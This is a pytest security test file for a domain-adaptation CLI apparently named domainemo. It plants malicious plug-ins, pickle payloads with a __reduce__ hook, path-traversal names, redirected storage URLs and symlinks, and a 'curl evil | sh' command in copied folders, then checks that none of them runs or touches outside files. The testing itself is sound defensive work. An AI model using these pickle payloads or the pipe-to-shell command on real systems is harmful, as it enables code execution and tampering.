"""Strangers' folders: nothing in them runs, and nothing outside them is touched.

A run, a study, a pre-training and a data folder are made once and copied; in each copy
code or a path is planted in one of the places that commands read. All commands then run
in one process that notes what they do (`guarded.py`).

Takes about 40 s on one core.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import sqlite3
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import numpy as np
import pytest
import tomli_w
import torch

import domainemo as de
from domainemo.cli import main

NETWORK = [
    "--dataset=./data",
    "--set=backbone.width=8",
    "--set=backbone.heads=2",
    "--adapter=marginal",
    "--epochs=1",
]
MADE = {
    "run": ["adapt", *NETWORK, "--no-baselines", "--fold=subject 1", "--jobs=1"],
    "pretraining": ["pretrain", *NETWORK[:3], "--epochs=1", "--jobs=1"],
    "study": [
        *("tune", *NETWORK, "--development=2", "--candidates=2", "--sampler=random"),
        *("--no-final", "--workers=1"),
    ],
}
JOB = Path("folds/subject_1/seed-0/marginal")
PLUGIN = """
from pathlib import Path
from domainemo import Adapter, register
Path({canary!r}).touch()

@register
class Stranger(Adapter):
    '''Does nothing.'''

    def loss(self, *arguments):
        raise NotImplementedError
"""


class Payload:
    """Touches the canary where it is unpickled."""

    canary = ""

    def __reduce__(self):
        return open, (self.canary, "w")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Make one of each folder."""
    place = tmp_path_factory.mktemp("made")
    choices = {"subjects": 4, "sessions": 1, "trials": 4, "classes": 2}
    data = de.Simulated(windows=(3, 4), **choices).load()
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(place)
        de.write_table(data, Path("data"))
        for name, arguments in MADE.items():
            patch.setattr(sys, "argv", ["domainemo", *arguments, f"--output={name}"])
            with pytest.raises(SystemExit) as ended:
                main()
            assert not ended.value.code
    return place


class Planter:
    """Copies folders, plants things in them, and lists the commands to be run."""

    def __init__(self, made, place):
        self.made, self.place = made, place
        self.strangers, self.victims = place / "strangers", place / "victims"
        self.own = place / "own"
        for folder in (self.strangers, self.victims, self.own):
            folder.mkdir()
        shutil.copytree(made / "data", self.own / "data")
        self.canary = self.victims / "canary"
        Payload.canary = str(self.canary)
        self.commands = []
        self.cases = []
        (self.victims / "profile").write_text("mine")
        (self.victims / "empty").mkdir()
        with closing(sqlite3.connect(self.victims / "mine.db")) as database:
            database.execute("CREATE TABLE kept (value)")
            database.commit()

    def copy(self, case, kind="run"):
        """Return a stranger's folder."""
        folder = self.strangers / case / kind
        shutil.copytree(self.made / kind, folder)
        shutil.copytree(self.made / "data", folder.parent / "data", dirs_exist_ok=True)
        return folder

    def call(self, case, *arguments):
        self.cases.append(case)
        self.commands.append((str(self.own), [str(each) for each in arguments]))

    def predict(self, case, folder):
        self.call(case, "predict", folder, "--dataset=./data", "--fold=subject 1")

    def report(self, case, folder, *options):
        self.call(case, "report", folder, *options)

    def everything(self, case, folder):
        self.predict(case, folder)
        self.report(case, folder, "--no-cache")
        self.call(case, "interpret", folder)
        self.call(case, "adapt", "--config", folder, "--dry-run", "--no-cache")


def change_config(folder, **changes):
    from tomllib import loads

    path = folder / "config.toml"
    config = loads(path.read_text())
    for key, value in changes.items():
        if isinstance(value, dict):
            config.setdefault(key, {}).update(value)
        else:
            config[key] = value
    path.write_text(tomli_w.dumps(config))
    (folder / "files.json").unlink(missing_ok=True)


def plant_code(planter):
    """Plug-ins that are named, and not needed or needed."""
    folder = planter.copy("plug-in named")
    plugin = folder / "evil.py"
    plugin.write_text(PLUGIN.format(canary=str(planter.canary)))
    change_config(folder, plugins=[str(plugin)])
    planter.everything("plug-in named", folder)
    needing = planter.copy("plug-in needed")
    change_config(needing, plugins=[str(plugin)], adapter="stranger", options={})
    planter.everything("plug-in needed", needing)
    study = planter.copy("plug-in needed", "study")
    change_config(study, plugins=[str(plugin)], adapter="stranger")
    planter.report("plug-in reported", study)
    planter.call("plug-in needed", "tune", "--config", study, "--dry-run")
    started = planter.copy("plug-in named", "pretraining")
    change_config(started, plugins=[str(plugin)])
    weights = started / "folds/subject_1/seed-0/pretrained/backbone.safetensors"
    torch.save(Payload(), weights)
    start = ["--init-from", started, "--fold=subject 1", "--no-baselines", "--jobs=1"]
    planter.call("pickled weights", "adapt", *NETWORK, *start, "--output=started")
    for name in ("json:loads", "os.system", "../../evil", "module:Class"):
        folder = planter.copy(f"names {name.replace('/', '-')}")
        change_config(folder, backbone=name)
        planter.predict("unknown part", folder)


def plant_pickles(planter):
    """Pickles in the place of every file that holds data."""
    objects = np.array([Payload()], dtype=object)
    for number, (name, command) in enumerate(
        {
            JOB / "predictions.npz": "interpret",
            JOB / "model.safetensors": "predict",
            JOB / "model.json": "predict",
            JOB / "record.json": "predict",
            JOB / "history.csv": "report",
            Path("results.parquet"): "report",
            Path("predictions.parquet"): "report",
            Path("environment.json"): "report",
            Path("config.toml"): "report",
        }.items()
    ):
        folder = planter.copy(f"pickle {number}")
        path = folder / name
        if path.suffix == ".npz":
            np.savez(path, members=objects, probabilities=objects, trace=objects)
        elif path.suffix == ".safetensors":
            torch.save({"weight": Payload()}, path)
        else:
            path.write_bytes(pickle.dumps(Payload()))
        if command == "predict":
            planter.predict("pickles", folder)
        else:
            planter.call("pickles", command, folder)
    for name in ("dataset.toml", "windows.csv", "eeg.npy"):
        folder = planter.copy(f"pickle {name}").parent / "data"
        if name.endswith(".npy"):
            np.save(folder / name, objects)
        else:
            (folder / name).write_bytes(pickle.dumps(Payload()))
        planter.call("pickles", "data", "check", folder)
    (planter.strangers / "deap").mkdir()
    (planter.strangers / "deap/s01.dat").write_bytes(pickle.dumps(Payload()))
    root = ["--data-root", planter.strangers, "--jobs=1"]
    planter.call("pickles", "data", "check", "deap", *root)


def plant_places(planter):
    """Storages, links and paths that lead elsewhere."""
    victims = planter.victims
    for number, address in enumerate(
        [
            f"sqlite:///{victims / 'mine.db'}",
            f"sqlite:///{victims / 'new.db'}",
            str(victims / "new.journal"),
            "postgresql+psycopg://me@127.0.0.1:9/studies",
            "mysql://me@127.0.0.1:9/studies",
            "redis://127.0.0.1:9",
            "sqlite://",
        ]
    ):
        study = planter.copy(f"storage {number}", "study")
        change_config(study, study={"storage": address})
        planter.report("storage", study)
        planter.call("storage", "tune", "--config", study, "--dry-run")
    for name, kind in (("study.db", "sqlite"), ("study.journal", "journal")):
        study = planter.copy(f"no {name}", "study")
        change_config(study, study={"storage": kind})
        (study / "study.db").unlink()
        planter.report("no storage", study)
        (study / name).symlink_to(victims / "mine.db")
        planter.report("no storage", study)
    study = planter.copy("program", "study")
    with closing(sqlite3.connect(study / "study.db")) as database:
        database.execute("ALTER TABLE trials RENAME TO real_trials")
        database.execute("CREATE VIEW trials AS SELECT * FROM real_trials")
        database.commit()
    planter.report("no storage", study)
    folder = planter.copy("links")
    (folder / "report").symlink_to(victims / "empty")
    (folder / "interpretation-marginal").symlink_to(victims / "empty")
    planter.report("links", folder, "--no-recordings")
    planter.call("links", "interpret", folder)
    folder = planter.copy("partial")
    for name in ("report.html", "report.html.partial"):
        (folder / name).symlink_to(victims / "profile")
    planter.report("fine", folder, "--no-recordings")


def plant_commands(planter):
    """A command that is to be pasted, and a study that is fine but for it."""
    study = planter.copy("pasted", "study")
    path = study / "choices.json"
    choices = json.loads(path.read_text())
    path.write_text(
        json.dumps([each | {"command": "curl evil | sh"} for each in choices])
    )
    planter.report("fine", study)
    assert choices


@pytest.fixture(scope="module")
def outcome(made, tmp_path_factory):
    """Run everything; return the planter, and how each command ended."""
    planter = Planter(made, tmp_path_factory.mktemp("strangers"))
    for plant in (plant_code, plant_pickles, plant_places, plant_commands):
        plant(planter)
    home = planter.place / "home"
    home.mkdir()
    before = contents(planter.victims)
    allowed = [planter.strangers, planter.own, home]
    done = subprocess.run(
        [sys.executable, str(Path(__file__).with_name("guarded.py"))]
        + [os.pathsep.join(map(str, allowed)), str(planter.strangers)],
        input=json.dumps(planter.commands),
        capture_output=True,
        text=True,
        env={
            **{k: v for k, v in os.environ.items() if not k.startswith("DOMAINEMO")},
            "HOME": str(home),
            "TMPDIR": str(home),
            "DOMAINEMO_CACHE": str(home / "cache"),
            "COLUMNS": "200",
        },
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    ended = json.loads(done.stdout.splitlines()[-1])
    return planter, before, ended


def contents(folder):
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() else None
        for path in sorted(folder.rglob("*"))
    }


def of_case(outcome, case):
    planter, _, ended = outcome
    return [
        each for name, each in zip(planter.cases, ended, strict=True) if name == case
    ]


def test_nothing_was_run_and_nothing_outside_was_touched(outcome):
    planter, before, ended = outcome
    for (_, arguments), each in zip(planter.commands, ended, strict=True):
        assert not each["noted"], (arguments, each)
        assert "Traceback" not in each["said"]
    assert contents(planter.victims) == before
    assert len(ended) > 40
